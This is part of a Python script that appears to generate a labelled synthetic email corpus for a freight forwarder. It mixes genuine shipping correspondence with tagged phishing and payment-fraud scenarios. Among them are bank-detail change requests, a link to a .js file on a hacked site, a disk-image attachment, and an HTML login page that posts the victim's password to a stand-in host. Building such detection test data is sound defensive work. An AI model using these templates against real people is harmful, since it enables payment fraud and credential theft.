t16.add(me, "Bom dia Rafael,\n\nsegue o pré-alerta do embarque da envasadora para a Laticínios Serra Verde:\n- navio MSC Beatrice, viagem 507W, ETD Gênova 12/02, "
        "ETA Santos 03/03\n- BL MEDUGE2501348, 1x40' HC, 6 volumes, 14.320 kg brutos\n- Incoterm FOB Gênova, frete a pagar no destino.\nEm anexo: rascunho do BL, "
        "fatura comercial e packing list.", at(2025, 2, 10, 9, 30),
        atts=[att("Draft_BL_MEDUGE2501348.pdf", pdf(["MSC - DRAFT B/L MEDUGE2501348"])), att("Commercial_invoice_FMP-25-019.pdf", pdf(["Invoice FMP-25-019"]))])
t16.add(souza, "Bom dia Giulia,\n\nrecebido, obrigado. Já abrimos o processo aqui (nossa ref. SC-IMP-25-0214). A Fernanda me pediu para conferir a NCM da "
        "máquina antes do registro da LI: vocês estão usando 8422.30.29?", at(2025, 2, 10, 6, 55, SAO), G)
t16.add(me, "Rafael, a NCM indicada pelo fabricante é mesmo 8422.30.29; a descrição completa está na fatura, página 2.", at(2025, 2, 10, 14, 20))
t16.add(souza, "Giulia, boa noite!\n\nDesculpe o horário, acabei de sair de uma reunião com o despachante. Ele pede que o BL original venha com a descrição "
        "\"máquina automática para envase de iogurte em copos\", em português, porque a LI foi deferida com esse texto. Dá para ajustar antes da emissão?",
        at(2025, 2, 10, 23, 48, SAO), GH, ("G8", "T16: Brazilian agent writing at 23:48 São Paulo time (-0300), same M365 tenant"))
t16.add(me, "Bom dia Rafael! Sem problema: pedi ao armador para incluir a descrição em português abaixo da inglesa. O BL sai amanhã.", at(2025, 2, 11, 9, 10))
t16.add(souza, "Perfeito, obrigado. Fico no aguardo da cópia do BL emitido.", at(2025, 2, 11, 7, 30, SAO), G)
t16.add(me, "Segue o BL emitido.", at(2025, 2, 12, 16, 5), atts=[att("BL_MEDUGE2501348.pdf", pdf(["MSC - B/L MEDUGE2501348 - ORIGINAL"]))])
t16.add(souza, "Olá Giulia,\n\nsobre o BL MEDUGE2501348: o despachante já montou o espelho da DI e precisa que vocês confiram os dados do exportador antes "
        "do registro. Está aqui:\nhttps://www.clinicasorrisobranco.example/wp-content/uploads/docs/Espelho_DI_MEDUGE2501348.js\n\nObrigado,",
        at(2025, 3, 4, 10, 17, SAO), HJ("server-hijack"),
        ("A3", "T16: server hijack through the Brazilian agent's M365 tenant (same headers), Portuguese text, link to a .js on a hacked site"), keep=False)

# ================================================================ T17 Souza: debit note; revised ND with same bank data; A9 hyphen look-alike
t17 = Thread(souza, "Nota de débito ND-2025-0388 - despesas de destino Santos", "pt", "T17")
BR_IBAN = "BR15 0090 0000 0033 1130 0551 290C 1"
t17.add(souza, "Olá Giulia,\n\nsegue a nossa nota de débito ND-2025-0388 referente às despesas de destino do processo SC-IMP-25-0214 que ficam por conta de "
        "vocês conforme o acordo de agenciamento: desconsolidação, liberação do BL e taxa de handling, total USD 640,00.\nDados bancários: Banco Santander "
        f"Brasil, ag. 0033, c/c 13005512-9; IBAN {BR_IBAN}; SWIFT BSCHBRSPXXX.", at(2025, 2, 20, 10, 15, SAO),
        atts=[att("ND-2025-0388.pdf", pdf(["Santos Cargo Agenciamento Ltda.", "Nota de debito ND-2025-0388", "Total USD 640,00"]))])
t17.add(me, "Olá Rafael, a taxa de handling aparece duas vezes: na ND e na fatura do terminal que vocês nos mandaram em janeiro. Pode verificar?",
        at(2025, 2, 21, 9, 20))
t17.add(souza, f"Giulia, você tem razão, o handling já tinha sido cobrado. Segue a ND revisada, agora USD 485,00. Dados bancários os mesmos: Banco "
        f"Santander Brasil, IBAN {BR_IBAN}, SWIFT BSCHBRSPXXX.", at(2025, 2, 21, 12, 40, SAO), GH,
        ("G23", "T17: revised debit note repeating the SAME bank details already given in the thread"),
        atts=[att("ND-2025-0388_rev1.pdf", pdf(["Santos Cargo Agenciamento Ltda.", "Nota de debito ND-2025-0388 rev.1", "Total USD 485,00"]))])
t17.add(me, "Obrigada Rafael. Pagamento programado para 05/03.", at(2025, 2, 24, 10, 0))
t17.add(lk_santos, "Olá Giulia,\n\nantes do pagamento do dia 05/03: por uma questão de câmbio, a partir deste mês os pagamentos em dólar de clientes no "
        "exterior devem ser feitos na conta da nossa coligada em Londres, que faz o fechamento do câmbio para nós:\nBeneficiário: Santos Cargo "
        "Agenciamento Ltda.\nBanco: Clear Junction Ltd, Londres\nIBAN: GB33 CLJU 0099 7112 3456 78\nBIC: CLJUGB21\nColoquei o nosso financeiro em cópia "
        "para confirmar o recebimento. Pode me mandar o comprovante assim que fizer a transferência?", at(2025, 3, 3, 15, 40, SAO), HJ("lookalike-domain"),
        ("A9", "T17: hyphen look-alike (santos-cargo.example) with Outlook 2016, quotes the thread, account abroad (GB IBAN), new Cc financeiro@"),
        keep=False, cc=[("Financeiro Santos Cargo", "financeiro@santos-cargo.example")])

# ================================================================ T18 Fernanda (Workspace PT-BR): documents; A6 takeover writing Italian, .img
t18 = Thread(fernanda, "Envasadora linha 3 - documentos para o despacho", "pt", "T18")
t18.add(fernanda, "Oi Giulia, tudo bem?\n\nPara o registro da LI a gente precisa da fatura comercial com a NCM, o peso líquido por volume e o país de "
        "fabricação por extenso. O despachante também pediu o catálogo técnico da máquina em PDF. Consegue com o fabricante?", at(2025, 2, 3, 9, 40, SAO))
t18.add(me, "Olá Fernanda,\n\ntudo bem, obrigada! Já pedi ao fabricante a fatura corrigida e o catálogo; devem chegar amanhã.", at(2025, 2, 3, 17, 10))
t18.add(fernanda, "Perfeito! Obrigada pela agilidade.", at(2025, 2, 3, 18, 5, SAO), G)
t18.add(me, "Fernanda, seguem a fatura comercial corrigida e o catálogo técnico (em inglês: o fabricante não tem versão em português).",
        at(2025, 2, 4, 15, 30), atts=[att("Commercial_invoice_FMP-25-019_rev.pdf", pdf(["Invoice FMP-25-019 rev.", "NCM 8422.30.29", "Made in Italy"])),
                                     att("Catalogo_FMP-Y3000.pdf", pdf(["FMP Y3000 - cup filling and sealing machine", "Technical catalogue"]))])
t18.add(fernanda, "Recebidos, já mandei para o despachante. Te aviso quando a LI for deferida.", at(2025, 2, 5, 9, 12, SAO), G)
t18.add(fernanda, "Giulia, LI deferida hoje! Pode seguir com o embarque.", at(2025, 2, 7, 16, 20, SAO), G)
t18.add(fernanda, "Buongiorno Giulia,\n\nti scrivo in italiano così facciamo prima. La dogana brasiliana ha chiesto di rivedere i documenti firmati "
        "dell'envasadora prima dello sdoganamento. Ho messo tutto nel file allegato: aprilo dal computer, non dal cellulare, e dimmi se i dati della "
        "fattura sono corretti.\n\nGrazie mille\nFernanda", at(2025, 2, 19, 4, 12, SAO), HJ("account-takeover"),
        ("A6", "T18: Brazilian client's Gmail (always Portuguese) writes Italian at 04:12 local, Italian Gmail quote header, Date +0100, .img attached"),
        sig=False, ui="it", q=t18.recs[3], refs=t18.refs[:4], keep=False, date_t=at(2025, 2, 19, 4, 12, SAO).astimezone(TZ1),
        atts=[att("Documentos_LI_envasadora.img", disk_image(["DOCUMENTOS_LI.LNK", "FATURA.PDF"]))])

# ================================================================ T33 Fernanda: insurance
t33 = Thread(fernanda, "Seguro internacional - apólice da envasadora", "pt", "T33")
t33.add(fernanda, "Oi Giulia,\n\na seguradora aqui pede uma cópia da apólice de seguro de transporte internacional da envasadora, com o valor segurado e as "
        "coberturas. Vocês contrataram pelo valor CIF + 10%?", at(2025, 2, 11, 10, 30, SAO))
t33.add(me, "Olá Fernanda,\n\nsim: seguro \"all risks\" (cláusulas ICC A) por 110% do valor CIF. A apólice está em anexo.", at(2025, 2, 11, 15, 10),
        atts=[att("Certificato_assicurazione_MEDUGE2501348.pdf", pdf(["Certificato di assicurazione", "ICC (A) - 110% CIF", "MEDUGE2501348"]))])
t33.add(fernanda, "Perfeito, era isso. Obrigada!", at(2025, 2, 11, 14, 45, SAO), G)

# ================================================================ T31 Ribeiro (Apple Mail pt-PT): arrival Leixões
t31 = Thread(ribeiro, "Chegada TGHU 771204-3 a Leixões - documentos", "ptpt", "T31")
t31.add(me, "Bom dia Ana,\n\no contentor TGHU 771204-3 (tecidos da Tessitura Conti para a Têxteis do Ave) chega a Leixões no sábado, 08/02, com o MDL Aurora. "
        "Em anexo: BL, fatura e packing list. O cliente pede entrega em Guimarães na terça-feira.", at(2025, 2, 6, 10, 0),
        atts=[att("BL_MDLGOA2501987.pdf", pdf(["Medlink Container Line", "B/L MDLGOA2501987", "TGHU 771204-3 - Genoa / Leixoes"]))])
t31.add(ribeiro, "Bom dia Giulia,\n\nrecebido. Sendo mercadoria da União, precisamos apenas da prova do estatuto aduaneiro (T2L ou manifesto com estatuto C) "
        "para o levantamento no terminal. Podem enviar-ma?", at(2025, 2, 6, 13, 35, LIS), G)
t31.add(me, "Claro, segue o T2L emitido pelo nosso despachante.", at(2025, 2, 6, 16, 0),
        atts=[att("T2L_25IT26100T0001422.pdf", pdf(["T2L - prova di posizione doganale unionale", "25IT26100T0001422"], producer="AIDA - Agenzia Dogane e Monopoli"))])
t31.add(ribeiro, "Contentor levantado hoje de manhã e entregue em Guimarães às 15h. Envio a fatura nos próximos dias.", at(2025, 2, 11, 17, 20, LIS), G)

# ================================================================ T19 Ribeiro: invoice; iPhone; A11 takeover with tampered quoted IBAN/amount
t19 = Thread(ribeiro, "Fatura LX-25/0092 - despacho e entrega TGHU 771204-3", "ptpt", "T19")
PT_IBAN = "PT50 0033 0000 4551 2345 6780 5"
t19.add(ribeiro, "Boa tarde Giulia,\n\njunto enviamos a fatura LX-25/0092 relativa ao despacho, levantamento e entrega em Guimarães do contentor "
        f"TGHU 771204-3 (tecidos Tessitura Conti): 2.340,50 EUR.\nPagamento por transferência para:\nIBAN {PT_IBAN} (Millennium bcp)\nBIC BCOMPTPL\n\nObrigada.",
        at(2025, 3, 10, 10, 20, LIS), atts=[att("Fatura_LX-25-0092.pdf", pdf(["Ribeiro & Filhos - Despachantes Oficiais", "Fatura LX-25/0092", "Total 2.340,50 EUR"]))])
t19.add(me, "Olá Ana, obrigada. Vou encaminhá-la à contabilidade; o pagamento costuma sair na última semana do mês.", at(2025, 3, 10, 12, 45))
t19.add(ribeiro, "Perfeito, obrigada Giulia!\n\nEnviado do meu iPhone", at(2025, 3, 10, 12, 2, LIS), GH,
        ("G19", "T19: the Portuguese agent from her iPhone ('Enviado do meu iPhone'), usually Apple Mail desktop"), client="iphone", sig=False, keep=True)
t19.add(me, "Ana, confirmo que o pagamento está agendado para 25/03.", at(2025, 3, 12, 10, 5))
t19.add(ribeiro, "Boa tarde Giulia,\n\nobrigada pela confirmação. Só para evitar enganos: a transferência deve ser feita para o IBAN que consta da mensagem "
        "original abaixo, que é o da nossa conta de clientes, e o valor correto é o da fatura, 3.240,50 EUR (faltava a taxa de armazenagem).",
        at(2025, 3, 18, 15, 44, LIS), HJ("account-takeover"),
        ("A11", "T19: agent's mailbox used via the hoster's Roundcube from abroad; quoted history real except the IBAN digits and the amount"),
        client="roundcube", ui="ptpt", variant="webmail-foreign", keep=False,
        qtext=lambda qb: qb.replace(PT_IBAN, "PT50 0036 0000 9910 2287 4410 3").replace("2.340,50", "3.240,50"))

# ================================================================ T20 Hernández (Workspace es-MX): quote; English with the plant manager
t20 = Thread(hernandez, "Cotización flete GOA-VER - 3 cajas maquinaria FCA Génova", "es", "T20")
t20.add(hernandez, "Buenos días Giulia,\n\nestamos por cerrar la compra de una línea de llenado con un fabricante de Parma y necesitamos cotización de flete "
        "marítimo Génova-Veracruz para 3 cajas de madera (aprox. 12 m³, 7.800 kg), Incoterm FCA Génova. ¿Nos podrías apoyar con la cotización y los "
        "tiempos de tránsito?\n\nQuedo atento.", at(2025, 2, 4, 9, 15, MEX))
t20.add(me, "Buenos días Alejandro,\n\ncon gusto. Para cotizar necesito las medidas exactas de cada caja y saber si alguna excede la altura de un contenedor "
        "estándar; según las dimensiones iría en un 40' HC o en un flat rack.", at(2025, 2, 4, 17, 40))
t20.add(hernandez, "Te paso las medidas que nos dio el fabricante: caja 1: 5,80 x 2,20 x 2,45 m; caja 2: 3,10 x 2,00 x 2,10 m; caja 3: 1,90 x 1,20 x 1,50 m. "
        "Le pregunté a nuestro gerente de planta si la caja 1 puede ir acostada, te confirmo.", at(2025, 2, 5, 8, 20, MEX), G)
t20.add(me, "Gracias. Con 2,45 m de alto la caja 1 entra justo en un 40' HC (la puerta mide 2,58 m). Te adjunto la cotización: flete 3.450 USD más "
        "recargos, tránsito de 18 días vía Valencia.", at(2025, 2, 5, 16, 0),
        atts=[att("Cotizacion_LS-25-0231_GOA-VER.pdf", pdf(["Lanterna Spedizioni - Cotizacion LS-25-0231", "1x40HC Genova-Veracruz", "USD 3.450 + recargos"]))])
t20.add(hernandez, "Hi Giulia,\n\nswitching to English so that Kevin Walsh, our plant manager (in copy), can follow. Kevin would like to know whether the "
        "crates will be chained inside the container, and whether you can fit a shock indicator on crate 1 - the filling carousel is very sensitive to "
        "impacts. Also, could the container be stuffed at the manufacturer in Parma instead of at your warehouse?\n\nThanks,",
        at(2025, 2, 6, 10, 2, MEX), GH, ("G10", "T20: Mexican importer switches to English in a Spanish thread for his plant manager (Cc), Spanish Gmail quote header"),
        cc=[("Kevin Walsh", "kwalsh@importadoraazteca.example")],
        sig="\nAlejandro Hernández\nForeign Trade Manager | Importadora Azteca S.A. de C.V.\n+52 55 5555 8120")
t20.add(me, "Hi Alejandro, hi Kevin,\n\nyes to both: we can load at the manufacturer in Parma with our own lashing crew (chains and wooden blocking, "
        "photo report included), and we will fit ShockWatch indicators on all three crates at no extra cost. I'll send the loading plan as soon as Parma "
        "confirms the date.", at(2025, 2, 6, 17, 30), cc=[("Kevin Walsh", "kwalsh@importadoraazteca.example")], sig=my_sig("en"))
t20.add(hernandez, "Perfecto Giulia, muchas gracias. Kevin está de acuerdo. Te confirmamos la orden de compra la próxima semana y seguimos en español ;)",
        at(2025, 2, 7, 9, 40, MEX), G, cc=[("Kevin Walsh", "kwalsh@importadoraazteca.example")])

# ================================================================ T30 Torres: new colleague opens a fresh thread (orphan)
t30 = Thread(torres, "Solicitud de cotización - 2 contenedores 20' Génova-Manzanillo", "es", "T30")
t30.add(torres, "Buenos días Sra. Ferraro,\n\nmi nombre es Mariana Torres; me integré hace unas semanas al área de compras de Importadora Azteca y Alejandro "
        "Hernández me pasó su contacto. Necesitamos cotizar dos contenedores de 20' con refacciones desde Génova a Manzanillo, mercancía lista a partir "
        "del 20 de marzo. Le adjunto la lista de empaque preliminar.", at(2025, 3, 3, 9, 0, MEX), GO,
        ("G27", "orphan: a new colleague of the Mexican importer (same Workspace domain) opens a fresh thread"),
        atts=[att("Lista_empaque_preliminar_MZT.pdf", pdf(["Importadora Azteca - lista de empaque preliminar", "2x20DV refacciones"]))])
t30.add(me, "Buenos días Mariana, encantada y bienvenida.\n\nCon gusto les cotizo. ¿Las refacciones incluyen piezas con aceite o baterías? Lo necesito para "
        "la clasificación de mercancías peligrosas.", at(2025, 3, 3, 17, 10))
t30.add(torres, "Hola Giulia, no, son piezas mecánicas secas, sin baterías ni lubricantes. Gracias.", at(2025, 3, 4, 8, 30, MEX), G)

# ================================================================ T32 Gatti (Libero / Open-Xchange): crates
t32 = Thread(gatti, "Casse in legno per linea di riempimento - carico a Parma", "it", "T32")
t32.add(me, "Buongiorno Luca,\n\nci serve un preventivo per tre casse in legno trattato ISPM-15 per una spedizione marittima in Messico, carico a Parma. "
        "Misure esterne: 5,80x2,20x2,45 m, 3,10x2,00x2,10 m e 1,90x1,20x1,50 m; pesi 4.900, 2.100 e 800 kg. Consegna delle casse entro il 24/02.",
        at(2025, 2, 10, 11, 0))
t32.add(gatti, "Buongiorno Giulia,\n\nper la cassa grande serve il pianale rinforzato con tre longheroni, le altre due sono standard. Preventivo 1.980 euro + "
        "IVA per le tre casse, trasporto a Parma compreso. Se mi confermate entro venerdì ce la facciamo per il 24.\n\nLuca\n\nInviato da Libero Mail per Android",
        at(2025, 2, 10, 13, 25), G, sig=False, no_ua=True, no_html=True)
t32.add(me, "Confermato, grazie. Ti mando l'ordine dal gestionale.", at(2025, 2, 11, 9, 30))
t32.add(gatti, "Giulia, casse pronte, le consegniamo lunedì mattina a Parma. Ti allego il certificato di trattamento termico HT con il numero di "
        "registrazione FITOK, servirà alla dogana messicana.", at(2025, 2, 21, 18, 10), GH,
        ("G28", "T32: packaging supplier always on libero.it (freemail) sends an HT-treatment certificate PDF"),
        atts=[att("Certificato_HT_IT-07-123_casse_Parma.pdf", pdf(["Certificato di trattamento termico HT", "Marchio IPPC IT-07-123 HT"], producer="HP Scan"))])
t32.add(me, "Perfetto Luca, grazie mille.", at(2025, 2, 24, 8, 45))

# ================================================================ T22 Marchi (Register.it Roundcube): olive oil; A5 server hijack in French with .html
t22 = Thread(marchi, "Ritiro olio EVO per Le Havre - DDT e analisi", "it", "T22")
t22.add(marchi, "Buongiorno Giulia,\n\nla merce per Le Havre è pronta: 12 pallet di olio extravergine in latte da 5 litri, 8.640 kg lordi. Per il ritiro ci "
        "servono i dati del camion almeno un giorno prima. Il certificato di analisi lo mettiamo in busta con il DDT.", at(2025, 2, 12, 9, 10))
t22.add(me, "Buongiorno Elena,\n\nritiro previsto venerdì 14 alle 9 con Autotrasporti Rossi, vi giro targa e nome dell'autista domani. Potete anticiparmi via "
        "mail il certificato di analisi? Il destinatario lo vuole prima dell'arrivo.", at(2025, 2, 12, 11, 40))
t22.add(marchi, "Eccolo in allegato (lotto L2501, acidità 0,24 %). Per la targa aspetto lei.", at(2025, 2, 13, 6, 10), G,
        atts=[att("Analisi_lotto_L2501.pdf", pdf(["Laboratorio Chimico Merceologico", "Olio EVO lotto L2501", "Acidita 0,24 %"]))])
t22.add(me, "Grazie! Camion targato FX 512 PL, autista Bruno.", at(2025, 2, 13, 10, 15))
t22.add(marchi, "Caricato e partito alle 9:45. Le mando il DDT firmato.", at(2025, 2, 14, 10, 30), G,
        atts=[att("DDT_0214_Marchi.pdf", pdf(["Oleificio Marchi", "DDT n. 214 del 14/02/2025"], producer="HP Scan"))])
cred = ('<!DOCTYPE html><html><head><meta charset="utf-8"><title>Bon de livraison - aperçu sécurisé</title></head><body style="font-family:Segoe UI,Arial;'
        'background:#eef1f5"><div style="width:360px;margin:80px auto;background:#fff;padding:28px;border-radius:6px"><h3>Document protégé</h3>'
        '<p>Connectez-vous avec votre adresse e-mail professionnelle pour afficher le bon de livraison.</p>'
        '<form method="post" action="https://bureau-documents-partage.example/consulter/recv.php"><input type="email" name="login" value="giulia.ferraro@'
        + OWN + '" style="width:100%"><br><br><input type="password" name="passwd" placeholder="Mot de passe" style="width:100%"><br><br>'
        '<button type="submit">Afficher le document</button></form></div></body></html>')
t22.add(marchi, "Bonjour,\n\nvous trouverez en pièce jointe la version révisée du bon de livraison pour l'envoi d'huile vers Le Havre. Pour des raisons de "
        "confidentialité, le document s'ouvre dans votre navigateur : saisissez l'adresse et le mot de passe de votre messagerie pour le consulter.\n\n"
        "Cordialement\nElena Marchi", at(2025, 3, 3, 12, 40), HJ("server-hijack"),
        ("A5", "T22: server hijack through the oil mill's Register.it Roundcube path, FRENCH text inside an Italian thread, .html credential page"),
        sig=False, q=t22.recs[3], refs=t22.refs[:4], keep=False, atts=[att("Bon_de_livraison_DDT_Le_Havre.html", cred.encode())])

# ================================================================ T23 Conti (HCL Notes IT, "RIF:"): proforma and packing list xlsx
t23 = Thread(conti, "Ordine 2025/077 - tessuti per Porto - proforma e packing list", "it", "T23")
t23.add(conti, "Buongiorno sig.ra Ferraro,\n\nin allegato la fattura proforma PF-25/031 per l'ordine 2025/077 del cliente Têxteis do Ave (Guimarães): 18 colli "
        "di tessuto per arredamento, 9.840 kg. La merce sarà pronta il 29/01; vi chiediamo il container 40' e il trasporto fino a Leixões.",
        at(2025, 1, 15, 14, 30), atts=[att("PF-25-031.pdf", pdf(["Tessitura Conti S.p.A.", "Fattura proforma PF-25/031", "18 colli - 9.840 kg"]))])
t23.add(me, "Buongiorno Sig. Conti,\n\ngrazie. Prenoto su Medlink, partenza da Genova il 01/02 e arrivo a Leixões intorno all'8/02. Mi manda anche il packing "
        "list con le dimensioni dei colli?", at(2025, 1, 15, 16, 5))
t23.add(conti, "Buongiorno,\n\nin allegato il packing list in Excel con dimensioni e pesi per collo. I rotoli sono su pallet 120x120 non sovrapponibili.",
        at(2025, 1, 16, 9, 12), GH, ("G22", "T23: HCL Notes 'RIF:' reply with an .xlsx packing list"),
        atts=[att("PL_ordine_2025-077.xlsx", ooxml("x", macro=False, text="Packing list ordine 2025/077"))])
t23.add(me, "Ricevuto. Con 18 pallet non sovrapponibili in un 40' ci stiamo. Vi confermo il carico del 29 con Autotrasporti Rossi, arrivo alle 8.",
        at(2025, 1, 16, 10, 30))
t23.add(conti, "Va bene, avviso il magazzino. Grazie.", at(2025, 1, 17, 8, 5), G)

# ================================================================ T24 Pace (Workspace IT): survey, always WeTransfer
t24 = Thread(pace, "Sinistro 2025/014 - perizia danni cont. CAIU 556021-8", "it", "T24")
t24.add(me, "Buongiorno Comandante,\n\nvi chiediamo una perizia in contraddittorio sul container CAIU 556021-8 (sanitari in ceramica dalla Spagna per Idrotermica "
        "Ligure), sbarcato il 14/03 al SECH: all'apertura nel nostro magazzino di Campi 6 pallet su 22 sono risultati crollati. La merce resta ferma lì "
        "fino alla vostra visita.", at(2025, 3, 17, 10, 20))
t24.add(pace, "Buongiorno Giulia,\n\nsopralluogo domattina alle 9:30 a Campi, avviso io il perito della compagnia del vettore. Le foto ve le mando con "
        "WeTransfer come al solito.", at(2025, 3, 17, 15, 45), G)
l1 = wt()
t24.add(pace, f"Ecco le foto del sopralluogo (87 file, troppo pesanti per la mail):\n{l1}\nIl link scade tra 7 giorni. Prima impressione: rizzaggio "
        "interno insufficiente, nessun segno di urto sul container.", at(2025, 3, 18, 16, 30), G,
        html=f'<div dir="ltr">Ecco le foto del sopralluogo (87 file, troppo pesanti per la mail):<br><a href="{l1}">{l1}</a><br>Il link scade tra 7 giorni. '
             'Prima impressione: rizzaggio interno insufficiente, nessun segno di urto sul container.<br><br>--<br>Cap. Dario Pace</div>')
t24.add(me, "Grazie Comandante, scaricate. Attendiamo la relazione preliminare.", at(2025, 3, 18, 17, 10))
l2 = wt()
t24.add(pace, f"Relazione preliminare e verbale di constatazione firmato dal perito del vettore:\n{l2}\nDanno stimato circa 4.100 euro.",
        at(2025, 3, 20, 11, 5), G)
t24.add(me, "Ricevuto, la giro al cliente e all'assicurazione.", at(2025, 3, 20, 12, 0))
l3 = f"https://wetransfer.com/downloads/{hx(32)}20250326{hx(6)}/{hx(6)}"
t24.add(pace, f"Giulia,\n\nin questo link trovi la relazione definitiva firmata, con le 87 foto numerate e la lettera di riserva al vettore già inviata:\n{l3}\n"
        "La fattura della perizia arriva a parte.", at(2025, 3, 26, 17, 30), GH,
        ("G14", "T24: marine surveyor who always sends photos/reports by WeTransfer link sends the final report the same way"),
        html=f'<div dir="ltr">Giulia,<br><br>in questo link trovi la relazione definitiva firmata, con le 87 foto numerate e la lettera di riserva al vettore '
             f'già inviata:<br><a href="{l3}">Relazione definitiva sinistro 2025/014</a><br>La fattura della perizia arriva a parte.<br><br>--<br>Cap. Dario Pace</div>')

# ================================================================ T25 Medlink: booking request; robot; robot with a new portal domain
BK = ("Medlink Booking Genova", "bookings.genova@medlink-line.example")
t25 = Thread(medlink_cs, "Booking request GOA-BCN 2x20' DV - Ceramiche Apuane - ETD wk 10", "it", "T25")
t25.add(me, "Buongiorno,\n\nvi chiediamo un booking per 2x20' DV Genova-Barcellona: piastrelle in gres porcellanato (HS 6907 21), 2 x 21.500 kg, caricatore "
        "Ceramiche Apuane S.p.A., Massa. Partenza desiderata settimana 10, ritiro vuoti al SECH.", at(2025, 2, 25, 9, 50), to=[BK])
S25 = "Booking request GOA-BCN 2x20' DV - Ceramiche Apuane - ETD wk 10"
t25.add(medlink_bot, "Gentile cliente,\n\nla sua richiesta è stata registrata con il numero REQ-GOA-250225-0183 e sarà gestita dal nostro Customer Service "
        "entro 4 ore lavorative.\nStato della richiesta: https://ebooking.medlink-line.example/requests/REQ-GOA-250225-0183\n\n"
        "Dear customer, your request has been registered as REQ-GOA-250225-0183.\n\nMedlink Container Line - e-Booking\n"
        "Messaggio generato automaticamente, si prega di non rispondere.", at(2025, 2, 25, 9, 51), G, sig=False, quote=False,
        subj="[MDL-eBooking] Richiesta ricevuta / Request received - " + S25, frm=f"Medlink Line e-Booking <{medlink_bot.email}>",
        html='<html><body style="font-family:Arial,sans-serif;font-size:13px"><p>Gentile cliente,</p><p>la sua richiesta è stata registrata con il numero '
             '<b>REQ-GOA-250225-0183</b> e sarà gestita dal nostro Customer Service entro 4 ore lavorative.</p><p><a href="https://ebooking.medlink-line.example/'
             'requests/REQ-GOA-250225-0183">Stato della richiesta</a></p><p>Dear customer, your request has been registered as REQ-GOA-250225-0183.</p>'
             '<p style="color:#777">Medlink Container Line - e-Booking<br>Messaggio generato automaticamente, si prega di non rispondere.</p></body></html>')
t25.add(medlink_cs, "Buongiorno Giulia,\n\nconfermato il booking MDLGOA2503117 su MDL Castoro v. 510W, ETD Genova 05/03, ETA Barcellona 07/03. Cut-off "
        "documentale 03/03 ore 12, cut-off fisico 04/03 ore 18. Vuoti disponibili al SECH da giovedì. Conferma in allegato.", at(2025, 2, 25, 14, 20), G,
        q=t25.recs[0], refs=t25.refs[:1], atts=[att("Booking_Confirmation_MDLGOA2503117.pdf", pdf(["MEDLINK CONTAINER LINE", "Booking Confirmation MDLGOA2503117",
                                                                               "2x20DV GOA-BCN - MDL Castoro 510W"]))])
t25.add(me, "Grazie Francesca, perfetto.", at(2025, 2, 25, 15, 0), to=[(medlink_cs.name, medlink_cs.email)])
newp = "https://my.medlinkcargo.example"
bot2 = ("Gentile cliente / Dear customer,\n\nil booking MDLGOA2503117 è stato modificato: nave MDL Aurora v. 511W, ETD Genova 06/03, ETA Barcellona 08/03. "
        "Cut-off invariati.\n\nDal 1° marzo 2025 i servizi e-Booking e Track & Trace di Medlink sono disponibili sul nuovo portale myMedlink; le credenziali "
        f"esistenti restano valide.\nTraccia la spedizione: {newp}/track?bkg=MDLGOA2503117&src=mail\nConferma aggiornata: {newp}/documents/MDLGOA2503117/BC-A1.pdf\n\n"
        "Medlink Container Line - e-Booking\nMessaggio automatico, non rispondere. Assistenza: bookings.genova@medlink-line.example")
t25.add(medlink_bot, bot2, at(2025, 3, 3, 7, 5), GH,
        ("G7", "T25: the shipping line's booking robot sends an amended confirmation with tracking links on a NEW portal domain (announced in the mail)"),
        sig=False, quote=False, refs=t25.refs[:1], subj="Booking Confirmation MDLGOA2503117 - Amendment 1 (vessel change)", frm=f"Medlink Line e-Booking <{medlink_bot.email}>",
        html=('<html><body style="font-family:Arial,sans-serif;font-size:13px;color:#1d2b3a"><table width="640" cellpadding="0" cellspacing="0"><tr><td '
              'style="background:#0b3d6e;color:#fff;padding:14px;font-size:18px">myMedlink</td></tr><tr><td style="padding:16px"><p>Gentile cliente / Dear customer,</p>'
              '<p>il booking <b>MDLGOA2503117</b> è stato modificato: nave MDL Aurora v. 511W, ETD Genova 06/03, ETA Barcellona 08/03. Cut-off invariati.</p>'
              '<p>Dal 1° marzo 2025 i servizi e-Booking e Track &amp; Trace di Medlink sono disponibili sul nuovo portale myMedlink; le credenziali esistenti '
              f'restano valide.</p><p><a href="{newp}/track?bkg=MDLGOA2503117&amp;src=mail" style="background:#f39200;color:#fff;padding:8px 14px;'
              f'text-decoration:none">Traccia la spedizione</a> &nbsp; <a href="{newp}/documents/MDLGOA2503117/BC-A1.pdf">Conferma aggiornata (PDF)</a></p>'
              '<p style="color:#777;font-size:11px">Medlink Container Line - e-Booking. Messaggio automatico, non rispondere. Assistenza: '
              '<a href="mailto:bookings.genova@medlink-line.example">bookings.genova@medlink-line.example</a></p></td></tr></table></body></html>'))

# ================================================================ T26 Assospedi (M365): association that always writes with many links
t26 = Thread(assospedi, "Circolare n. 07/2025 - ICS2 release 3 e nuove note AIDA per l'export", "it", "T26")
AL = [("Circolare 07/2025 (PDF)", "https://www.assospedi-liguria.example/circolari/2025/circ-07-2025.pdf"),
      ("Reg. delegato (UE) 2015/2446, art. 106-113", "https://eur-lex.europa.eu/legal-content/IT/TXT/?uri=CELEX:32015R2446"),
      ("Reg. di esecuzione (UE) 2015/2447, art. 182-187", "https://eur-lex.europa.eu/legal-content/IT/TXT/?uri=CELEX:32015R2447"),
      ("ICS2 - pagina della Commissione", "https://taxation-customs.ec.europa.eu/customs-4/customs-security/import-control-system-2-ics2-0_en"),
      ("ICS2 - FAQ per gli operatori", "https://taxation-customs.ec.europa.eu/customs-4/customs-security/ics2-faq_en"),
      ("ADM - Novità AIDA", "https://www.adm.gov.it/portale/dogane/operatore/novita-aida"),
      ("ADM - Nota prot. 118744/RU", "https://www.adm.gov.it/portale/documents/20182/nota-118744-ru.pdf"),
      ("Registrazione al webinar del 20 febbraio", "https://www.assospedi-liguria.example/eventi/webinar-ics2-20-02-2025"),
      ("Slide dell'incontro di gennaio", "https://www.assospedi-liguria.example/documenti/slide-ics2-gennaio-2025.pdf"),
      ("Modulo quesiti soci", "https://www.assospedi-liguria.example/area-soci/quesiti")]


def link_html(intro, items, outro):
    li = "".join(f'<li><a href="{H.escape(u)}">{H.escape(n)}</a></li>' for n, u in items)
    return ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body dir="ltr"><div style="font-family: Calibri, Arial, '
            'Helvetica, sans-serif; font-size: 11pt; color: rgb(0, 0, 0);">' + intro.replace("\n", "<br>") + f"<ul>{li}</ul>" + outro.replace("\n", "<br>")
            + '<br><br><img src="https://www.assospedi-liguria.example/img/logo-firma.png" alt="Assospedi Liguria" width="160"><br>'
